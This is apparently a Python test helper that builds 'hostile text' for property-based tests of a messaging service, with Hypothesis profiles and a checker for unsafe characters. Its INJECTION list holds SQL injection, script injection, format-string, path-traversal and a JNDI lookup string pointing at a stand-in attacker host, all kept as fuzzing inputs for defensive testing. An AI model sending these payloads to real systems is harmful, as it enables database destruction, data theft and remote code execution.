"""Hostile text for property-based tests, and the Hypothesis profiles that bound their cost.

Profiles: `ci` (the default; seeds are fixed per test, so a run is repeatable) and `deep`
(ten times the examples, for a hunt before a release). Choose with SAFERHUB_HYPOTHESIS=deep.
Tests scale their `max_examples` by `EXAMPLES` so the turn-loop runs stay cheap on 2 cores.
"""

from __future__ import annotations

import os
import unicodedata

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

settings.register_profile(
    "ci",
    max_examples=5,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
settings.register_profile("deep", parent=settings.get_profile("ci"), max_examples=50)
PROFILE = settings.get_profile(os.environ.get("SAFERHUB_HYPOTHESIS", "ci"))
EXAMPLES = PROFILE.max_examples

ZERO_WIDTH = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e")
BIDI = (
    *"\u202a\u202b\u202c\u202d\u202e",
    *"\u2066\u2067\u2068\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
)
CONTROLS = (
    "\x00",
    "\x07",
    "\x08",
    "\x1b[31m",
    "\x1b]0;title\x07",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x7f",
    "\x85",
    "\x9b",
    "\u2028",
    "\u2029",
    "\ud800",
    "\udfff",
    "\U000e0041",
    "\ufff9",
)
SLACK_MARKUP = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U123ABC>",
    "<#C123|general>",
    "<!subteam^S123>",
    "<https://evil.example/|click here>",
    "<mailto:a@evil.example|a>",
    "*bold*",
    "_italic_",
    "~strike~",
    "`code`",
    "```block```",
    "&amp;",
    "&lt;",
    "&gt;",
    "> quote",
)
INJECTION = (
    "'; DROP TABLE concern; --",
    '" OR "1"="1',
    "' UNION SELECT email FROM person --",
    "1; SELECT pg_sleep(10)",
    "%",
    "_",
    "\\",
    "NULL",
    "$1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</div><div>",
    "&#0;",
    "<!--",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n",
    "../../etc/passwd",
)
DIGITS = (
    "¹",
    "²³",
    "⁴⁵⁶",
    "₁",
    "½",
    "①",
    "Ⅻ",
    "١",
    "٢",
    "۳",
    "४",
    "২",
    "１",
    "２",
    "𝟐",
    "٢٠٢٦",
    "۱۴۰۵",
    "१२",
    "১/২/২০২৬",
    "٢٣/١١/٢٠٢٦",
    "１２：３０",
    "99999999999999999999",
    "9" * 5000,
)
SCRIPTS = (
    "می‌خواهم",  # Persian, with a zero-width non-joiner
    "क्‍ष",  # Devanagari, with a zero-width joiner
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "e\u0301",
    "ﷺ",
    "Z̷̧̛a̶l̸g̵o",
    "مرحبا",
    "שלום",
    "你好",
    "𝕳𝖊𝖑𝖑𝖔",
    "\U0010ffff",
    "\ue000",
    "\ufffe",
)
WORDS = (
    "yes",
    "no",
    "not sure",
    "1",
    "2",
    "3",
    "0",
    "-1",
    "now",
    "today",
    "2 hours ago",
    "999 days ago",
    "Cheapside",
    "EC2V 7HH",
    "51.5, -0.1",
    "91, 181",
    "31/02/2026",
    "29/02/2028 25:61",
    "0001-01-01",
    "9999-12-31",
    "31/12/9999 23:59",
    "1e9",
    "NaN",
    "skip",
    "ok",
    "edit ",
    "change ",
    "?",
)
FRAGMENTS = (
    *ZERO_WIDTH,
    *BIDI,
    *CONTROLS,
    *SLACK_MARKUP,
    *INJECTION,
    *DIGITS,
    *SCRIPTS,
    *WORDS,
)
LONG = (5_001, 10_000, 20_000)

_fragment = st.sampled_from(FRAGMENTS)
_anything = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], include_characters="\ud800\udc00"),
    max_size=40,
)


def _repeat(piece_and_length: tuple[str, int]) -> str:
    piece, length = piece_and_length
    return (piece * (length // max(len(piece), 1) + 1))[:length]


def _decorate(parts: tuple[str, str, int]) -> str:
    word, noise, where = parts
    at = where % (len(word) + 1)
    return word[:at] + noise + word[at:]


def hostile_text() -> st.SearchStrategy[str]:
    """Text a hostile or careless sender might type or paste: see the module's fragments."""
    return st.one_of(
        st.lists(st.one_of(_fragment, _anything), min_size=1, max_size=8).map("".join),
        _anything,
        st.tuples(
            st.sampled_from(WORDS),
            st.sampled_from((*ZERO_WIDTH, *BIDI, *CONTROLS)),
            st.integers(0, 20),
        ).map(_decorate),
        st.tuples(st.sampled_from(("x", "a ", *FRAGMENTS)), st.sampled_from(LONG)).map(_repeat),
        st.text(alphabet=st.characters(categories=["Nd", "No", "Nl"]), min_size=1, max_size=6),
    )


HARMFUL_FORMAT = frozenset((*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", "\ufeff"))


def harmful(text: str) -> list[str]:
    """The characters of `text` that must never be stored or shown: controls other than line
    feed and tab, lone surrogates, bidi embeddings, overrides and isolates, byte order marks."""
    return [
        ch
        for ch in text
        if ch in HARMFUL_FORMAT or (unicodedata.category(ch) in ("Cc", "Cs") and ch not in "\n\t")
    ]


def strings_in(value: object) -> list[str]:
    """Every string inside a JSON value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (str(k), *strings_in(v))]
    if isinstance(value, list | tuple):
        return [s for item in value for s in strings_in(item)]
    return []
